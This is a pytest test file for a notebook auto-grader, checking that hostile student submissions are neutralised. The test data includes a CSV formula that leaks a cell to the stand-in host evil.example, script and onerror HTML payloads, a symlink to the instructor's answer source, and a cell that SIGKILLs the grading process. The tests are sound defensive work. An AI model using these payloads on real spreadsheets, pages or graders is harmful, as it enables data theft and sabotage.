"""Hostile submissions against the batch and the reports: injection, colliding names, links, old formats,
hidden folders, resuming, leftovers. Each attack comes with a control showing it is real.

Uses the small worksheet of `hostile_worksheet.py` (a few cells: fast to grade).
"""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys

import hostile_worksheet as H
import nbformat
import pytest

from coursegrad.grading import batch, lifetime, records, report, worker
from coursegrad.grading.escape import csv_cell, file_name, md_block, md_inline
from coursegrad.grading.grade import grade_notebook
from coursegrad.grading.reference import prepare

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORGERY = "``````\n# Full marks: 3 / 3\n<script>alert(1)</script>\n<img src=x onerror=alert(2)>"
EVIL_FOLDER = "=1+1 <b>x<b> # heading ``` [link](javascript:alert(1))"
STEM = H.NAME.removesuffix(".ipynb")  # the worksheet's folder of records


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """One batch: an injecting submission, colliding names, links, a v3 notebook, hidden folders."""
    tmp = tmp_path_factory.mktemp("batch")
    src = H.write_source(tmp)
    printing = f"def gate(x):\n    print({FORMULA!r})\n    print({FORGERY!r})\n    return 0.0 * x"
    written = "```\n## Forged heading\n<script>alert(3)</script>\n````````"
    v3 = nbformat.writes(nbformat.convert(H.correct(), 3), version=3).encode()
    subs = H.write_class(
        tmp / "subs",
        {
            "injector": H.answered(gate=printing, written=written),
            EVIL_FOLDER: H.wrong(),
            "bob smith": H.correct(),
            "bob_smith": H.wrong(),
            "Bob_Smith": H.blank(),
            "old_format": v3,
            ".hidden": H.correct(),
        },
    )
    (subs / ".ipynb_checkpoints").mkdir()
    (subs / "linker").mkdir()
    (subs / "linker" / H.NAME).symlink_to(src)  # a submission that is the instructor's source
    (subs / "folder_link").symlink_to(subs / "bob smith")
    (subs / "fifo").mkdir()
    os.mkfifo(subs / "fifo" / H.NAME)
    results = batch.grade_folder(src, subs, jobs=2, progress=False, timeout=10, out=tmp / "out")
    out = report.write_all(results, tmp / "out", H.NAME)
    with open(out / "gradebook.csv", newline="", encoding="utf-8") as f:
        raw_rows = list(csv.reader(f))
    return {"results": {r.student: r for r in results}, "out": out, "raw": raw_rows, "src": src, "subs": subs}


def test_every_folder_gets_a_row(graded):
    expected = {"injector", EVIL_FOLDER, "bob smith", "bob_smith", "Bob_Smith", "old_format", ".hidden", ".ipynb_checkpoints"}
    expected |= {"linker", "folder_link", "fifo"}
    assert set(graded["results"]) == expected
    students = {row[0].removeprefix("'") for row in graded["raw"][1:]}
    assert students == expected


def test_no_csv_cell_is_a_formula(graded):
    results = graded["results"]
    # control: the student's text really is a formula before the CSV writer neutralises it
    assert any(m.startswith("=HYPERLINK") for q in results["injector"].questions for m in q.messages)
    assert EVIL_FOLDER.startswith("=")
    for row in graded["raw"]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert any(row[0] == "'" + EVIL_FOLDER for row in graded["raw"])
    assert csv_cell("-3") == "-3" and csv_cell("-x") == "'-x" and csv_cell(2.5) == 2.5


def _headings(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.lstrip().startswith("#") and not _in_fence(text, line)]


def _in_fence(text: str, target: str) -> bool:
    fence = None
    for line in text.splitlines():
        stripped = line.strip()
        if fence is None and stripped.startswith("```"):
            fence = re.match(r"`+", stripped).group(0)
        elif fence is not None and stripped == fence:
            fence = None
        elif line == target:
            return fence is not None
    return False


def test_printed_text_cannot_close_the_feedbacks_code_block_or_inject_html(graded):
    text = (graded["out"] / "feedback" / f"{file_name('injector')}.md").read_text()
    assert "# Full marks: 3 / 3" in text  # control: the forged heading is in the file ...
    assert _headings(text) == ["# Feedback on hostile\\_ws\\.ipynb: injector", "## Question A", "## Question B", "## Question W"]
    html = [line for line in text.splitlines() if "<script" in line or "<img" in line]
    assert html and all(_in_fence(text, line) for line in html)  # ... only inside the code block
    fences = [line.strip().removesuffix("text") for line in text.splitlines() if line.strip().startswith("```")]
    assert "`" * 7 in fences and "\n    ```````text\n" in text  # the block's fence is longer than any printed run


def test_written_answers_and_folder_names_are_inert(graded):
    text = (graded["out"] / "written_answers.md").read_text()
    assert "## Forged heading" in text  # control: the student's heading is there, as text
    assert _headings(text) == ["# Written answers: hostile\\_ws\\.ipynb", "## q_w"] + [
        f"### {md_inline(s)}" for s in sorted(graded["results"])
    ]
    assert "<b>" not in text and "&lt;b&gt;" in text
    feedback = (graded["out"] / "feedback" / f"{file_name(EVIL_FOLDER)}.md").read_text()
    assert feedback.splitlines()[0] == f"# Feedback on hostile\\_ws\\.ipynb: {md_inline(EVIL_FOLDER)}"
    assert "<b>" not in feedback


def test_markdown_escaping_units():
    assert md_inline("# h\n<i>x</i> `c` [a](b)") == r"\# h &lt;i&gt;x&lt;/i&gt; \`c\` \[a\]\(b\)"
    block = md_block("a\n`````\nb", "  ")
    assert block[0] == "  ``````text" and block[-1] == "  ``````" and block[2] == "  `````"


def test_names_that_sanitise_alike_get_their_own_files(graded):
    import re as _re

    names = ["bob smith", "bob_smith", "Bob_Smith"]
    old_rule = {_re.sub(r"[^\w.-]", "_", n) for n in names[:2]}
    assert len(old_rule) == 1  # control: the old file name rule gave two students one file
    assert len({file_name(n) for n in names}) == 3
    assert {n.lower() for n in map(file_name, names)} != 1
    results = graded["results"]
    assert (results["bob smith"].total, results["bob_smith"].total, results["Bob_Smith"].total) == (3.0, 0.0, 0.0)
    for name in names:
        feedback = (graded["out"] / "feedback" / f"{file_name(name)}.md").read_text()
        assert md_inline(name) in feedback.splitlines()[0]
        stored = json.loads(records.path_of(graded["out"], STEM, name).read_text())
        assert stored["submission"]["student"] == name


def test_links_and_special_files_are_refused(graded):
    results = graded["results"]
    for student in ("linker", "folder_link", "fifo"):
        assert results[student].status == "invalid" and results[student].total == 0
        assert results[student].notes[0].startswith("refused:"), results[student].notes
    # control: followed, the link is the instructor's source, which scores full marks
    assert grade_notebook(prepare(graded["src"], timeout=10), graded["src"], "source", timeout=10).total == 3.0


def test_old_nbformat_is_upgraded_and_graded(graded):
    result = graded["results"]["old_format"]
    assert result.total == 3.0 and "an nbformat 3 notebook, upgraded to nbformat 4 to grade it" in result.notes


def test_hidden_folders_get_a_row_and_a_note(graded):
    hidden = graded["results"][".hidden"]
    assert hidden.total == 3.0 and "hidden folder" in hidden.notes[0]
    checkpoints = graded["results"][".ipynb_checkpoints"]
    assert checkpoints.status == "missing" and "hidden folder" in checkpoints.notes[0]


def test_a_rerun_resumes_from_the_stored_records(graded, monkeypatch):
    out = graded["out"]
    folder = records.path_of(out, STEM, "anyone").parent
    assert sorted(p.name for p in folder.iterdir()) == sorted(f"{file_name(s)}.json" for s in graded["results"])
    assert records.reference_path(out, STEM).is_file() and records.reference_path(out, STEM).parent == folder.parent
    assert len(records.load_all(out)) == len(graded["results"])  # the reference values are no student's record
    computed = []

    def computing(ws, **options):
        computed.append(ws.name)
        raise AssertionError("the reference values stored with the results should have been used")

    monkeypatch.setattr(batch, "with_reference", computing)
    records.path_of(out, STEM, "bob_smith").unlink()  # lost, or deleted by someone
    nb = H.correct()
    nbformat.write(nb, str(graded["subs"] / "Bob_Smith" / H.NAME))  # changed since it was graded
    calls = []
    real = worker.grade_one
    monkeypatch.setattr(worker, "grade_one", lambda *a: calls.append(a[1]) or real(*a))
    again = batch.grade_folder(graded["src"], graded["subs"], jobs=1, progress=False, timeout=10, out=out)
    assert sorted(calls) == ["Bob_Smith", "bob_smith"]
    by_name = {r.student: r for r in again}
    assert by_name["Bob_Smith"].total == 3.0 and by_name["bob smith"].total == 3.0
    assert by_name["injector"].questions == graded["results"]["injector"].questions
    assert records.load(records.path_of(out, STEM, "Bob_Smith")).submission.total == 3.0  # the new result is stored
    assert not [p for p in folder.parent.rglob("*") if p.name.startswith(".tmp")]
    assert computed == []  # the reference values stored with the results were used, not computed again
    calls.clear()
    unchanged = batch.grade_folder(graded["src"], graded["subs"], jobs=1, progress=False, timeout=10, out=out)
    assert calls == [] and [r.total for r in unchanged] == [r.total for r in again]  # nothing changed: no kernel runs


def test_scratch_folders_of_killed_graders_are_removed_at_the_next_start(tmp_path):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = lifetime.scratch_root() / str(dead.pid)
    (stale / "kernel-x").mkdir(parents=True)
    (stale / "kernel-x" / "kernel.json").write_text("{}")
    live = lifetime.scratch_root() / str(os.getppid())
    live.mkdir(exist_ok=True)
    (tmp_path / "subs").mkdir()
    batch.grade_folder(H.write_source(tmp_path), tmp_path / "subs", progress=False)
    assert not stale.exists() and live.exists()


def test_a_student_who_kills_the_grading_process_costs_only_themselves(tmp_path):
    """Without the sandbox student code can kill its worker process; the batch notices who was running
    from the workers' own reports (no files a student could delete) and regrades the others."""
    killer = H.with_cell(H.correct(), "q_a", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)")
    subs = H.write_class(tmp_path / "subs", {"a_killer": killer, "b": H.correct(), "c": H.wrong(), "d": H.correct()})
    results = batch.grade_folder(H.write_source(tmp_path), subs, jobs=2, progress=False, timeout=10, sandbox="none")
    by_name = {r.student: r for r in results}
    assert by_name["a_killer"].status == "grader-error" and by_name["a_killer"].total == 0
    assert "grading process was killed" in by_name["a_killer"].questions[0].messages[0]
    assert [by_name[s].total for s in "bcd"] == [3.0, 0.0, 3.0]
